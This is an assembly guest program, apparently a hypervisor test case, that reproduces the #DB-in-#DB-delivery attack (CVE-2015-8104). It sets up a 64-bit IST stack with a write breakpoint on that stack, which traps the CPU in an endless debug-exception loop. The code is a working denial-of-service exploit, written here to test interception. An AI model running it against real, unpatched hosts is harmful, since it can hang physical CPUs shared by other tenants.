; db_loop.asm: the #DB-in-#DB-delivery attack (CVE-2015-8104).  In 64-bit
; mode the #DB gate uses an IST stack, so every #DB frame is pushed to the
; same place; a data breakpoint (DR0, write, 8 bytes) on that place makes
; each delivery raise a new #DB trap, delivered before the handler's first
; instruction, for ever: without interception the physical CPU never
; leaves this guest.  Under tinyhv every delivery is a VM exit; the VM
; ends only by its CPU-time limit (cpu_limit=).
; The guest goes to 64-bit mode (identity-mapped first GiB, 2 MiB pages),
; loads a 64-bit IDT whose #DB gate has IST 1, sets DR0/DR7 and writes the
; watched quadword itself to raise the first #DB.  If the handler runs,
; the breakpoint did not hit during the delivery (an emulator that does not
; check data breakpoints on event delivery): it says so on the UART and
; spins.
%define GUEST_NAME "db_loop"
%include "common.inc"

CODE64_SEL      equ 0x18
TSS64_SEL       equ 0x20
CR4_PAE         equ 1 << 5
CR0_PG          equ 1 << 31
MSR_EFER        equ 0xc0000080
EFER_LME        equ 1 << 8
PTE_P_RW        equ 0x3
PDE_2M          equ 0x83                ; present, writable, 2 MiB page
TSS64_IST1      equ 0x24
TSS64_IOMAP     equ 0x66
TSS64_SIZE      equ 0x68
; DR7: L0, R/W0 = 01 (data writes), LEN0 = 10 (8 bytes).
DR7_WATCH       equ 1 | (1 << 16) | (2 << 18)

main:
	LINE "64-bit mode, #DB on IST 1, DR0 = a write breakpoint on the IST frame: #DB in #DB delivery for ever"
	; Page tables: PML4[0] -> PDPT, PDPT[0] -> PD, PD: 512 x 2 MiB.
	mov dword [pml4], pdpt + PTE_P_RW
	mov dword [pdpt], pd + PTE_P_RW
	xor ecx, ecx
.pde:
	mov eax, ecx
	shl eax, 21
	or eax, PDE_2M
	mov [pd + ecx * 8], eax
	inc ecx
	cmp ecx, 512
	jne .pde
	; The 64-bit TSS descriptor (16 bytes) and IST1.
	mov eax, tss64
	mov ecx, TSS64_SIZE - 1
	mov edi, gdt64 + TSS64_SEL
	call tss_descriptor
	mov dword [tss64 + TSS64_IST1], ist_top
	mov word [tss64 + TSS64_IOMAP], TSS64_SIZE
	; The #DB gate: 64-bit interrupt gate, IST 1.
	mov eax, db_handler
	mov [idt64 + 16], ax
	mov word [idt64 + 16 + 2], CODE64_SEL
	mov byte [idt64 + 16 + 4], 1    ; IST 1
	mov byte [idt64 + 16 + 5], 0x8e
	shr eax, 16
	mov [idt64 + 16 + 6], ax
	; Long mode.
	lgdt [gdtr64]
	mov eax, cr4
	or eax, CR4_PAE
	mov cr4, eax
	mov eax, pml4
	mov cr3, eax
	mov ecx, MSR_EFER
	rdmsr
	or eax, EFER_LME
	wrmsr
	mov eax, cr0
	or eax, CR0_PG
	mov cr0, eax
	jmp CODE64_SEL:long_mode

bits 64
long_mode:
	mov ax, TSS64_SEL
	ltr ax
	lidt [idtr64]
	mov eax, ist_top - 8            ; the frame's first quadword (SS)
	mov dr0, rax
	mov rax, DR7_WATCH
	mov dr7, rax
	mov qword [abs ist_top - 8], 0      ; the first #DB (a trap after this write)
.spin:
	jmp .spin

db_handler:
	mov esp, handler_stack_top       ; zero-extended into RSP
	xor eax, eax
	mov dr7, rax
	mov esi, handler_msg
.putc:
	lodsb
	test al, al
	jz .spin
	mov dx, UART_THR
	out dx, al
	jmp .putc
.spin:
	jmp .spin
bits 32

section .rodata
handler_msg:    db "db_loop: the #DB handler ran: the data breakpoint did not hit during the #DB delivery", 10, 0

section .data
	align 8
gdt64:
	dq 0
	dq 0x00CF9A000000FFFF           ; 0x08: 32-bit code
	dq 0x00CF92000000FFFF           ; 0x10: data
	dq 0x00AF9A000000FFFF           ; 0x18: 64-bit code
	dq 0, 0                         ; 0x20: 64-bit TSS (16 bytes)
gdt64_end:
	align 4
	dw 0
gdtr64:
	dw gdt64_end - gdt64 - 1
	dd gdt64
	align 4
	dw 0
idtr64:
	dw 256 * 16 - 1
	dd idt64, 0

section .bss
	alignb 4096
pml4:           resb 4096
pdpt:           resb 4096
pd:             resb 4096
idt64:          resb 256 * 16
	alignb 16
ist:            resb 4096
ist_top:
handler_stack:  resb 1024
handler_stack_top:
	alignb 16
tss64:          resb TSS64_SIZE
